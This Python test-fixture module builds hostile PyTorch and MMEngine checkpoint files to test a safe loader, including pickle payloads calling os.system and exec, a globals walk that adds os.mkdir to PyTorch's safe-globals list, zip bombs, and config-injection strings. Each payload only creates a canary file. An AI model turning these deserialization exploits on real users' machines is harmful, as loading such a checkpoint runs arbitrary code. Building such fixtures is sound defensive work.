"""Checkpoints of an attacker. Each would leave a canary file if anything of it ran; none does real harm."""

import gzip
import importlib
import io
import json
import logging
import marshal
import operator
import os
import pickle
import pkgutil
import runpy
import shutil
import sqlite3
import struct
import subprocess
import tarfile
import timeit
import zipfile
from collections.abc import Callable
from functools import partial, reduce
from itertools import starmap
from pathlib import Path

import numpy as np
import torch


class Call:
    """Pickles as a call: loading it calls ``function(*arguments)``."""

    def __init__(self, function, *arguments) -> None:
        self.parts = (function, arguments)

    def __reduce__(self):
        return self.parts

    def __call__(self) -> None:
        """What it pickles as may be called in turn."""


def _code(canary: Path) -> str:
    return f'open({str(canary)!r}, "w").close()'


def _script(canary: Path, suffix: str = '.py') -> str:
    script = canary.with_name(f'script{suffix}')
    script.write_text(f'x = 1\n{_code(canary)}\n')
    return str(script)


def _pickled(canary: Path) -> bytes:
    return pickle.dumps(Call(exec, _code(canary)), protocol=2)


def _file(canary: Path, name: str, data: bytes) -> str:
    canary.with_name(name).write_bytes(data)
    return str(canary.with_name(name))


def _saved(content, **options) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, **options)
    return buffer.getvalue()


def _array(canary: Path) -> np.ndarray:
    array = np.empty(1, object)
    array[0] = Call(exec, _code(canary))
    return array


def _function(canary: Path) -> Call:
    code = marshal.dumps(compile(_code(canary), 'x', 'exec'))
    return Call(exec, Call(marshal.loads, code))


def _hub(canary: Path) -> Call:
    (canary.parent / 'hubconf.py').write_text(f'def x():\n    {_code(canary)}\n')
    return Call(partial(torch.hub.load, source='local', trust_repo=True), str(canary.parent), 'x')


def _npy(canary: Path) -> Call:
    buffer = io.BytesIO()
    np.save(buffer, _array(canary), allow_pickle=True)
    return Call(np.load, _file(canary, 'x.npy', buffer.getvalue()), None, True)


# what loading calls: canary -> the object
CALLS: dict[str, Callable[[Path], object]] = {
    'os.system': lambda c: Call(os.system, f'touch {c}'),
    'os.popen': lambda c: Call(list, Call(os.popen, f'touch {c}; echo')),
    'os.mkdir': lambda c: Call(os.mkdir, str(c)),
    'os.posix_spawn': lambda c: Call(
        os.waitpid, Call(os.posix_spawn, '/bin/sh', ['sh', '-c', f'touch {c}'], {}), 0
    ),
    'subprocess.check_output': lambda c: Call(subprocess.check_output, ['touch', str(c)]),
    'eval': lambda c: Call(eval, _code(c)),
    'exec': lambda c: Call(exec, _code(c)),
    'open': lambda c: Call(open, str(c), 'w'),
    'io.FileIO': lambda c: Call(io.FileIO, str(c), 'w'),
    'getattr': lambda c: Call(Call(getattr, Call(__import__, 'os'), 'system'), f'touch {c}'),
    '__import__': lambda c: Call(Call(getattr, Call(__import__, 'os'), 'mkdir'), str(c)),
    'importlib': lambda c: Call(Call(getattr, Call(importlib.import_module, 'os'), 'mkdir'), str(c)),
    'pkgutil.resolve_name': lambda c: Call(Call(pkgutil.resolve_name, 'os:mkdir'), str(c)),
    'functools.partial': lambda c: Call(partial(os.mkdir, str(c))),
    'functools.reduce': lambda c: Call(reduce, exec, [_code(c), {}]),
    'map': lambda c: Call(list, Call(map, exec, [_code(c)])),
    'starmap': lambda c: Call(list, Call(starmap, exec, [(_code(c),)])),
    'filter': lambda c: Call(list, Call(filter, os.mkdir, [str(c)])),
    'attrgetter': lambda c: Call(Call(operator.attrgetter('mkdir'), Call(__import__, 'os')), str(c)),
    'methodcaller': lambda c: Call(operator.methodcaller('touch'), c),
    'shutil.copyfile': lambda c: Call(shutil.copyfile, _script(c), str(c)),
    'runpy.run_path': lambda c: Call(runpy.run_path, _script(c)),
    'timeit': lambda c: Call(timeit.timeit, _code(c), 'pass', timeit.default_timer, 1),
    'marshal': _function,
    'pickle.loads': lambda c: Call(pickle.loads, _pickled(c)),
    'sqlite3': lambda c: Call(sqlite3.connect, str(c)),
    'logging.FileHandler': lambda c: Call(logging.FileHandler, str(c)),
    'zipfile.ZipFile': lambda c: Call(zipfile.ZipFile, str(c), 'w'),
    'torch.load': lambda c: Call(
        partial(torch.load, weights_only=False), _file(c, 'inner.pth', _saved(Call(exec, _code(c))))
    ),
    'torch.storage': lambda c: Call(
        torch.storage._load_from_bytes, _saved(Call(exec, _code(c)), _use_new_zipfile_serialization=False)
    ),
    'torch.hub': _hub,
    'torch.rebuild': lambda c: Call(
        torch._tensor._rebuild_from_type_v2, exec, torch.Tensor, (_code(c),), {}
    ),
    'numpy.load': _npy,
    'numpy.object': _array,
    'mmengine.Config': lambda c: Call(
        Call(getattr, Call(getattr, Call(importlib.import_module, 'mmengine'), 'Config'), 'fromfile'),
        _script(c),
    ),
    'mmengine.fileio': lambda c: Call(
        Call(getattr, Call(importlib.import_module, 'mmengine'), 'load'), _file(c, 'x.pkl', _pickled(c))
    ),
    'registry': lambda c: Call(
        Call(getattr, Call(getattr, Call(importlib.import_module, 'mmengine.registry'), 'MODELS'), 'build'),
        dict(type='os.mkdir', path=str(c)),
    ),
}


def _zip(path: Path, data: bytes, name: str = 'archive', **options) -> None:
    """The layout of ``torch.save`` around any pickle."""
    with zipfile.ZipFile(path, 'w', **options) as archive:
        for entry, content in (('data.pkl', data), ('version', b'3\n'), ('byteorder', b'little')):
            archive.writestr(f'{name}/{entry}', content)


def _text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value)) + value.encode()


def _globals_walk(canary: Path) -> bytes:
    """By ``getattr`` alone, from a function of PyTorch to the list of what its safe loader calls.

    This runs where ``getattr`` is among the safe globals, as the maintained fork has it.
    """

    def attribute(of: bytes, name: str) -> bytes:
        return b'cbuiltins\ngetattr\n' + of + _text(name) + b'\x86R'

    variables = attribute(b'ctorch._utils\n_rebuild_tensor\n', '__globals__')
    buffer = b'cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81' + variables + b'b'
    mkdir = attribute(attribute(attribute(buffer, 'torch'), 'os'), 'mkdir')
    loader = attribute(attribute(attribute(buffer, 'torch'), '_weights_only_unpickler'), '__dict__')
    listed = loader + _text('_marked_safe_globals_set') + b'](h\x01es'
    return b'\x80\x02' + mkdir + b'q\x01' + listed + b'h\x01' + _text(str(canary)) + b'\x85R.'


def _opcodes(canary: Path, kind: str) -> bytes:
    """Calls that ``pickle.dumps`` does not write."""
    command = f'touch {canary}'
    if kind == 'inst':
        return b"(S'" + command.encode() + b"'\nios\nsystem\n."
    if kind == 'obj':
        return b'(cos\nsystem\n' + _text(command) + b'o.'
    if kind == 'dotted':  # a path through a module that is itself harmless
        return b'\x80\x04\x8c\x07zipfile\x8c\x09os.system\x93' + _text(command) + b'\x85R.'
    if kind == 'protocol 0':
        return b'cos\nsystem\n(S' + repr(command).encode() + b'\ntR.'
    assert kind == 'persistent'
    return b'\x80\x02cos\nsystem\n' + _text(command) + b'\x85RQ.'


def _tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, 'w') as archive:
        for name in ('storages', 'tensors', 'pickle'):
            info = tarfile.TarInfo(name)
            data = _pickled(canary)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def _bomb(path: Path) -> None:
    """20 MB of zeros in 20 kB."""
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as archive:
        archive.writestr('archive/data.pkl', pickle.dumps({}, 2))
        archive.writestr('archive/data/0', bytes(20 * 2**20))


def _overlapping(path: Path) -> None:
    """Two entries of one directory that are the same bytes."""
    with zipfile.ZipFile(path, 'w') as archive:
        archive.writestr('archive/data.pkl', pickle.dumps({}, 2))
        archive.writestr('archive/data/0', bytes(4096))
        entry = archive.getinfo('archive/data/0')
        for index in range(1, 9):
            again = zipfile.ZipInfo(f'archive/data/{index}')
            for slot in ('CRC', 'compress_size', 'file_size', 'header_offset'):
                setattr(again, slot, getattr(entry, slot))
            archive.filelist.append(again)


def _cut(path: Path, share: float) -> None:
    data = _saved(dict(state_dict=dict(weight=torch.ones(4096))))
    path.write_bytes(data[: int(len(data) * share)])


def _script_module(path: Path) -> None:
    torch.jit.save(torch.jit.trace(torch.nn.Linear(2, 2), torch.ones(1, 2)), str(path))


def _safetensors(path: Path, header: dict, data: bytes = b'', claimed: int | None = None) -> None:
    text = json.dumps(header).encode()
    path.write_bytes(struct.pack('<Q', claimed or len(text)) + text + data)


_BROKEN: dict[str, Callable[[Path], object]] = {
    'zip bomb': _bomb,
    'overlapping zip': _overlapping,
    'expanded tensor': lambda p: torch.save(dict(state_dict=dict(w=torch.ones(1).expand(2**20, 2**20))), p),
    'truncated to half': lambda p: _cut(p, 0.5),
    'truncated end': lambda p: _cut(p, 0.99),
    'truncated start': lambda p: _cut(p, 0.001),
    'NaN': lambda p: torch.save(dict(state_dict=dict(weight=torch.full((2,), torch.nan))), p),
    'empty': lambda p: p.write_bytes(b''),
    'text': lambda p: p.write_text('404: Not Found'),
    'web page': lambda p: p.write_text('<!DOCTYPE html><html><body>Sign in</body></html>'),
    'image': lambda p: p.write_bytes(b'\x89PNG\r\n\x1a\n' + bytes(64)),
    'gzip': lambda p: p.write_bytes(gzip.compress(_saved({}))),
    'start of gzip': lambda p: p.write_bytes(b'\x1f\x8b'),
    'other zip': lambda p: zipfile.ZipFile(p, 'w').writestr('readme.txt', 'x'),
    'a list': lambda p: torch.save([torch.ones(2)], p),
    'a tensor': lambda p: torch.save(torch.ones(2), p),
    'names are numbers': lambda p: torch.save(dict(state_dict={1: torch.ones(2)}), p),
    'no state dict': lambda p: torch.save(dict(state_dict=3), p),
    'TorchScript': _script_module,
    'whole model': lambda p: torch.save(torch.nn.Linear(2, 2), p),
    'forged dtype': lambda p: _zip(p, b'\x80\x02cnumpy\ndtype\n' + _text('O8') + b'K\x00K\x01\x87R.'),
}
_BROKEN_SAFETENSORS: dict[str, Callable[[Path], object]] = {
    'empty.safetensors': lambda p: p.write_bytes(b''),
    'pickle.safetensors': lambda p: torch.save(dict(state_dict={}), p),
    'long header.safetensors': lambda p: _safetensors(p, {}, claimed=2**60),
    'outside.safetensors': lambda p: _safetensors(
        p, dict(w=dict(dtype='F32', shape=[4], data_offsets=[0, 99]))
    ),
}


def write_call(kind: str, folder: Path, canary: Path, layout: str = 'zip') -> Path:
    """A checkpoint with tensors and one of :data:`CALLS`."""
    path = folder / f'{kind}.pth'
    content = dict(state_dict=dict(weight=torch.ones(2)), meta=CALLS[kind](canary))
    if layout == 'plain':
        path.write_bytes(pickle.dumps(content, protocol=2))
    else:
        torch.save(content, path, _use_new_zipfile_serialization=layout == 'zip')
    return path


RAW = ('inst', 'obj', 'dotted', 'protocol 0', 'persistent')


def write(name: str, folder: Path, canary: Path) -> Path:
    """One of :data:`FILES`."""
    kind, _, layout = name.partition(' in ')
    if kind in CALLS:
        return write_call(kind, folder, canary, layout or 'zip')
    path = folder / (name if name.endswith('.safetensors') else f'{name}.pth')
    if kind in RAW:
        data = _opcodes(canary, kind)
        path.write_bytes(data) if layout == 'plain' else _zip(path, data)
    elif name == 'globals walk':
        _zip(path, _globals_walk(canary))
    elif name == 'tar':
        _tar(path, canary)
    elif name == 'nested zip':
        _zip(canary.with_name('inner.zip'), _pickled(canary))
        _zip(path, canary.with_name('inner.zip').read_bytes())
    elif name == 'compressed zip':
        _zip(path, _pickled(canary), compression=zipfile.ZIP_DEFLATED)
    else:
        {**_BROKEN, **_BROKEN_SAFETENSORS}[name](path)
    return path


FILES = (
    *CALLS,
    *(f'{kind} in {layout}' for kind in ('os.system', 'exec', 'getattr') for layout in ('legacy', 'plain')),
    *RAW,
    *(f'{kind} in plain' for kind in RAW),
    'globals walk',
    'tar',
    'nested zip',
    'compressed zip',
    *_BROKEN,
    *_BROKEN_SAFETENSORS,
)

# Config text that would run, or have MMEngine call what it names; {code} and {canary} are filled in.
CONFIGS = {
    'code': '{code}\nmodel = dict(type="RSMamba")',
    'in a value': 'model = dict(type="RSMamba", arch={code})',
    'comprehension': 'model = [{code} for _ in range(1)]',
    'dunder': 'model = ().__class__.__base__.__subclasses__()',
    'formatted': 'model = f"{{{code}}}"',
    'type': 'model = dict(type="os.mkdir", path={canary!r})',
    'nested type': 'model = dict(type="RSMamba", norm_cfg=dict(type="os.mkdir", path={canary!r}))',
    'type of pipeline': 'model = dict(type="X")\ntest_pipeline = [dict(type="os.mkdir", path={canary!r})]',
    'type through a package': 'model = dict(type="shutil.os.mkdir", path={canary!r})',
    'base': '_base_ = {script!r}\nmodel = dict(type="RSMamba")',
    'imports': 'custom_imports = dict(imports=["antigravity"])\nmodel = dict(type="RSMamba")',
    'scope': 'default_scope = "os"\nmodel = dict(type="RSMamba")',
    'trusted remote code': 'model = dict(type="HFModel", trust_remote_code=True)',
    'deep': 'model = ' + '[' * 5000 + ']' * 5000,
}


def write_config(name: str, folder: Path, canary: Path, place: str) -> Path:
    """A checkpoint whose config text is one of :data:`CONFIGS`, in ``meta`` or in the message hub."""
    text = CONFIGS[name].format(code=_code(canary), canary=str(canary), script=_script(canary))
    content = dict(state_dict=dict(weight=torch.ones(2)), meta=dict(epoch=1, iter=1))
    if place == 'hub':
        content['message_hub'] = dict(runtime_info=dict(cfg=text))
    else:
        content['meta'][place] = text
    path = folder / f'{name}.pth'
    torch.save(content, path)
    return path
